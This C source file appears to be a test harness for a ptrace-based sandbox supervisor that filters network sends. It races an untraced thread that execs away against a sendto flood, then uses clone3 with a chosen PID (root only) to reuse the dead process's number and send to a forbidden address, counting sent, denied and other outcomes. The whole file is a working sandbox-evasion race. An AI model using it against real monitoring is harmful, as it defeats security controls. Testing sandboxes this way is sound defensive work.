/*
 * Ends processes so that their tracer does not hear of it, and has others get their numbers: unseen-end HELPER ALLOWED FORBIDDEN PORT TIMES
 *
 * HELPER, this program without -DPLACE, has the vault mapped by a call that the supervisor does not make itself, and goes on with such calls; a thread of
 * it that nobody traces executes another program, which takes the number of the process and ends. Then a child of ours gets the number: only root may
 * choose it. Its own memory lies where the vault was (-DPLACE -no-pie -fno-pie -mcmodel=large -Wl,--section-start=.place=ADDRESS), and says FORBIDDEN.
 *
 * stdout: how often the child sent, to wherever, was denied, or had something else happen to it.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/sched.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { MANY = 20000, VAULT_BYTES = 4 << 20, STACK = 1 << 16 };
static char content[MANY];

static struct sockaddr_in address(const char *host, const char *port)
{
	struct sockaddr_in name = { .sin_family = AF_INET, .sin_port = htons(atoi(port)) };
	inet_pton(AF_INET, host, &name.sin_addr);
	return name;
}

static int send_many(int fd, struct sockaddr_in *name)
{
	return sendto(fd, content, sizeof content, 0, (struct sockaddr *)name, sizeof *name) < 0 ? errno : 0;
}

#ifdef PLACE
__attribute__((section(".place"))) static volatile struct sockaddr_in place[VAULT_BYTES / sizeof(struct sockaddr_in)] = { { .sin_family = AF_INET } };

int main(int argc, char **argv)
{
	if (argc != 6)
		return 2;
	struct sockaddr_in allowed = address(argv[2], argv[4]), forbidden = address(argv[3], argv[4]);
	int sent = 0, denied = 0, other = 0;
	for (size_t i = 0; i < sizeof place / sizeof *place; i++)
		place[i] = forbidden;
	for (int i = 0; i < atoi(argv[5]); i++) {
		char microseconds[16];
		int status;
		snprintf(microseconds, sizeof microseconds, "%d", i * 17 % 600);
		pid_t number = fork();
		if (number == 0) {
			execl(argv[1], argv[1], argv[2], argv[4], microseconds, NULL);
			_exit(98);
		}
		waitpid(number, &status, 0);
		struct clone_args again = { .exit_signal = SIGCHLD, .set_tid = (unsigned long)&number, .set_tid_size = 1 };
		pid_t child = syscall(SYS_clone3, &again, sizeof again);
		if (child == 0) {
			alarm(5);
			_exit(send_many(socket(AF_INET, SOCK_DGRAM, 0), &allowed));
		}
		if (child < 0 || waitpid(child, &status, 0) != child || !WIFEXITED(status))
			other++;
		else if (WEXITSTATUS(status) == 0)
			sent++;
		else if (WEXITSTATUS(status) == EPERM)
			denied++;
		else
			other++;
	}
	printf("sent %d denied %d other %d\n", sent, denied, other);
	return 0;
}
#else
static volatile int go;
static long delay_nanos;

static long now(void)
{
	struct timespec time;
	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec * 1000000000L + time.tv_nsec;
}

static int become_another(void *unused)
{
	(void)unused;
	while (!go)
		;
	for (long end = now() + delay_nanos; now() < end;)
		;
	execl("/bin/true", "true", NULL);
	_exit(99);
}

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	struct sockaddr_in allowed = address(argv[1], argv[2]);
	delay_nanos = atol(argv[3]) * 1000;
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (send_many(fd, &allowed))
		return 97;
	char *stack = mmap(NULL, STACK, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	alarm(20);
	clone(become_another, stack + STACK, CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM | CLONE_UNTRACED, NULL);
	go = 1;
	for (;;)
		send_many(fd, &allowed);
}
#endif
